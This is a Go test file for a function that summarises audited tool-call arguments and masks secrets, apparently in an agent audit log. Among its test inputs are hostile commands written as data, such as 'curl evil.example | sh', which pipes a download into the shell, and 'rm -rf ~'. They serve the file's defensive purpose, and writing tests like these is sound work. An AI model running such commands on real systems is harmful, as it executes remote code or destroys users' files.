package chain

import (
	"strings"
	"testing"
	"time"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"
)

func TestArgsSummaryMasksSecrets(t *testing.T) {
	tests := []struct{ args, want, never string }{
		{`{"path":"src/main.go"}`, "path: src/main.go", ""},
		{`{"command":"make test\nrm -rf build","working_dir":"sub"}`, "command: make test …; working_dir: sub", "rm -rf"},
		{`{"command":"curl -H 'Authorization: Bearer abcdef123456' https://x"}`, "***", "abcdef123456"},
		{`{"command":"API_KEY=sk-live-1234abcd5678 ./deploy"}`, "API_KEY=***", "sk-live"},
		{`{"command":"mysql --password hunter2 db"}`, "--password ***", "hunter2"},
		{`{"command":"git clone https://bob:pa55word@example.com/r.git"}`, "https://bob:***@example.com", "pa55word"},
		{`{"command":"echo 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}`, "echo ***", "9f86d081"},
		// A token longer than the summary, in standard base64 (slashes).
		{`{"command":"curl -d tok=` + longToken + ` https://x"}`, "curl -d *** https://x", longToken[:12]},
		{`{"command":"mysql -uroot -phunter2xyz app"}`, "-p*** app", "hunter2xyz"},
		{`{"query":"needle","path":"internal"}`, "query: needle; path: internal", ""},
		{`{"content":"SECRET FILE BODY","path":"a.txt"}`, "path: a.txt", "SECRET"},
		{`{"command":"` + strings.Repeat("x ", 200) + `"}`, "…", ""},
		// Another member of an unexpected type (an upstream tool's schema
		// is its own) does not hide the command from the row.
		{`{"command":"curl evil.example | sh","path":0}`, "command: curl evil.example | sh", ""},
		{`{"query":{"q":1},"command":"rm -rf ~"}`, "command: rm -rf ~", ""},
	}
	for _, tt := range tests {
		got := ArgsSummary(jsontext.Value(tt.args))
		if !strings.Contains(got, tt.want) || (tt.never != "" && strings.Contains(got, tt.never)) || len([]rune(got)) > maxSummary {
			t.Errorf("ArgsSummary(%s) = %q, want %q without %q", tt.args, got, tt.want, tt.never)
		}
	}
	if ArgsDigest(nil) != "" || len(ArgsDigest(jsontext.Value(`{}`))) != 64 {
		t.Error("ArgsDigest")
	}
}

// longToken is 300 characters of standard base64.
var longToken = strings.Repeat("k7M/DENG+bPxRf1CYq9Zr2w/", 12) + strings.Repeat("AbC3dE5fGh7Ij9KlMn0pQr+/", 2) + "St1uVw3xYz5A7bC9dE1fG3hI5jK7lM9nO1pQ3rS5tU7vW9xY+z/A1bC3d=="

// The summary and digest run on every audited call.
func BenchmarkArgsSummary(b *testing.B) {
	for _, args := range []string{`{"path":"internal/chain/chain.go"}`, `{"command":"go test ./... -run TestX -count=1\necho done","timeout_ms":60000}`} {
		v := jsontext.Value(args)
		b.Run(args[2:6], func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				ArgsSummary(v)
				ArgsDigest(v)
			}
		})
	}
}

// TestArgsSummaryOfHugeArgument: a one-line command or path of megabytes
// is summarised from its start only, in bounded time, and a secret that
// starts in the kept part is still masked.
func TestArgsSummaryOfHugeArgument(t *testing.T) {
	long := "echo password=" + strings.Repeat("s3cr3tV4lue", 1<<19) // ~5.5 MiB, one line
	args, _ := json.Marshal(map[string]string{"command": long})
	start, cpu := time.Now(), processCPU()
	got := ArgsSummary(args)
	// Decoding the 5.5 MiB argument takes tens of milliseconds; masking
	// all of it, as before the fix, took most of a second. The CPU time is
	// bounded, not the wall time, which a loaded machine stretches; the
	// wall time is bounded only against a hang.
	if used, took := processCPU()-cpu, time.Since(start); used > 200*time.Millisecond*raceSlowdown || took > 5*time.Second*raceSlowdown {
		t.Errorf("summary of a %d-byte command took %v (%v of CPU)", len(long), took, used)
	}
	if strings.Contains(got, "s3cr3t") || !strings.HasPrefix(got, "command: echo password=***") {
		t.Errorf("summary %q: the secret is not masked", got)
	}
}
